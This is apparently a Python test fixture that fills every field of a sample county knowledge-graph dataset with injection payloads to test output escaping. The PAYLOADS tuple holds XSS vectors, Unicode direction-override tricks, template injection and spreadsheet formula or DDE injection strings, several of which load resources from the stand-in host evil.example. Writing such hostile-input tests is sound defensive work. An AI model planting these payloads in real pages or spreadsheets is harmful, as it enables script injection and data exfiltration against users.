"""A county in which every text is an attack on a page, a script, a spreadsheet or a reader."""

from __future__ import annotations

from dataclasses import replace

from kg.model import Curator, Dataset, Link, Mention, Node, Passage, Section, Source
from tests.page.county import build_county

PAYLOADS = (
    "</script><script>hit()</script>",
    "</SCRIPT ><script>hit()</script>",
    "<script>hit()</script>",
    "<!--<script>hit()",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.example/x.png>",
    "<svg onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x>",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<a href=javascript:hit()>x</a>",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    '" onmouseover=hit() x="',
    "' onmouseover=hit() x='",
    "` onmouseover=hit() x=`",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "\\u003cscript\\u003ehit()",
    "\\x3cscript>hit()",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "line\u2028separator\u2029hit()",
    "right\u202eto left\u202d override",
    "zero\u200bwidth\ufeffmark",
    "__proto__",
    '=HYPERLINK("//evil.example/","x")',
    "＝cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
)


def build_hostile() -> Dataset:
    """The county with a payload in every label, title, quote, heading, id and name."""
    county = build_county()
    turn = iter(PAYLOADS * 200)
    renamed = {node.id: f"{node.id}{next(turn)}" for node in county.nodes}

    def item(old: str) -> str:
        return renamed.get(old, old)

    def mention(old: Mention, owner: str) -> Mention:
        return replace(old, item=owner, quote=next(turn)[:40], note=next(turn))

    def node(old: Node) -> Node:
        new = renamed[old.id]
        return replace(
            old,
            id=new,
            zh=next(turn),
            en=next(turn),
            type=next(turn),
            issuer=item(old.issuer or "") or None,
            lead=item(old.lead) if old.lead else None,
            target_group_zh=next(turn),
            target_group_en=next(turn),
            note_zh=next(turn),
            note_en=next(turn),
            figure=old.figure
            and replace(old.figure, unit=next(turn), verbatim=next(turn), target=next(turn)),
            mentions=tuple(mention(one, new) for one in old.mentions),
        )

    def link(old: Link) -> Link:
        new = old.id + next(turn)
        return replace(
            old,
            id=new,
            source=item(old.source),
            target=item(old.target),
            reason=next(turn),
            status_date=next(turn),
            successor=next(turn),
            rationale=next(turn),
            rationale_en=next(turn),
            curator=next(turn),
            mentions=tuple(mention(one, new) for one in old.mentions),
        )

    return replace(
        county,
        nodes=tuple(sorted(map(node, county.nodes), key=lambda one: one.id)),
        links=tuple(sorted(map(link, county.links), key=lambda one: one.id)),
        title_zh=next(turn),
        title_en=next(turn),
        base_iri=next(turn),
        licence=next(turn),
        basis_rules=next(turn),
        focus_issuer=item("org01"),
        curators=tuple(Curator(payload, next(turn), next(turn)) for payload in PAYLOADS),
        sources=(
            Source(
                "s1",
                next(turn),
                next(turn),
                next(turn),
                next(turn),
                next(turn),
                3000,
                sections=(Section("lead", next(turn), next(turn)),),
            ),
        ),
        passages=(
            Passage("s1", 0, 1500, "lead", 1, 1, (), ""),
            Passage("s1", 1500, 3000, next(turn), 2, 2, (), ""),
        ),
    )
